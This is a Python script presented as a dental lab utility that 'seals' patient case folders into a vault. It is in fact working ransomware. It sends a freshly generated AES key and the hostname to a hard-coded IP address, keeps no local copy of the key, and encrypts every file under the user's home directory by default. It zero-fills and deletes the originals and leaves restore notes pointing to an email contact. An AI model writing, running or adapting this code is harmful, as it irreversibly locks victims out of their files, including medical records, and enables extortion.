#!/usr/bin/env python3
"""Rotate dental case folders into the lab vault format.

Case folders (prescription PDF, scans, designs, milling reports) are sealed
in place so that workstations never hold readable patient files.  The
per-run vault key is escrowed with the lab's key service and is not kept on
the workstation; restores go through the service.

Usage:
    case_vault_rotate.py [ROOT] [--escrow URL]
"""
import argparse
import logging
import os
import socket
import struct
import sys
import uuid
from pathlib import Path

import requests
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

LOG = logging.getLogger("case_vault")
MAGIC = b"DLAB1"
SKIP = {".enc", ".tmp", ".lock"}
ESCROW_URL = "http://203.0.113.81/api/escrow"
NOTICE = "RESTORE_CASES.txt"


class BlockSealer:
    """Length-prefixed AES container used by the vault restore tool."""

    def __init__(self, key):
        self.key = key

    def _cipher(self):
        return Cipher(algorithms.AES(self.key), modes.ECB())

    def seal(self, data):
        padder = padding.PKCS7(128).padder()
        padded = padder.update(data) + padder.finalize()
        enc = self._cipher().encryptor()
        return MAGIC + struct.pack(">Q", len(data)) + enc.update(padded) + enc.finalize()


def escrow_key(url, key, run_id):
    payload = {"run": run_id, "host": socket.gethostname(), "key": key.hex()}
    for attempt in range(5):
        try:
            r = requests.post(url, json=payload, timeout=15)
            if r.ok:
                return True
        except requests.RequestException as exc:
            LOG.debug("escrow attempt %d: %s", attempt + 1, exc)
    return False


def iter_case_files(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in SKIP or name.startswith(".") or name == NOTICE:
                continue
            yield p


def _scrub(path):
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def seal_tree(src, sealer):
    count = 0
    touched = set()
    for path in iter_case_files(src):
        target = path.with_name(path.name + ".enc")
        try:
            target.write_bytes(sealer.seal(path.read_bytes()))
            _scrub(path)
            touched.add(path.parent)
            count += 1
        except OSError as exc:
            LOG.debug("%s: %s", path, exc)
    return count, touched


def leave_notice(folders, run_id):
    text = (
        "Case files in this folder were moved into the lab vault.\n"
        f"Vault run: {run_id}\n"
        "To restore them, contact vault-restore@crownline-lab.com quoting the run id.\n"
    )
    for d in folders:
        try:
            (d / NOTICE).write_text(text)
        except OSError:
            pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="seal case folders into the vault")
    ap.add_argument("root", nargs="?", type=Path, default=Path.home())
    ap.add_argument("--escrow", default=os.environ.get("VAULT_ESCROW", ESCROW_URL))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    run_id = uuid.uuid4().hex[:12]
    key = os.urandom(32)
    if not escrow_key(args.escrow, key, run_id):
        LOG.error("key service unreachable, nothing sealed")
        return 3
    sealer = BlockSealer(key)
    del key
    n, folders = seal_tree(args.root, sealer)
    leave_notice(folders, run_id)
    LOG.info("vault run %s: %d files sealed", run_id, n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
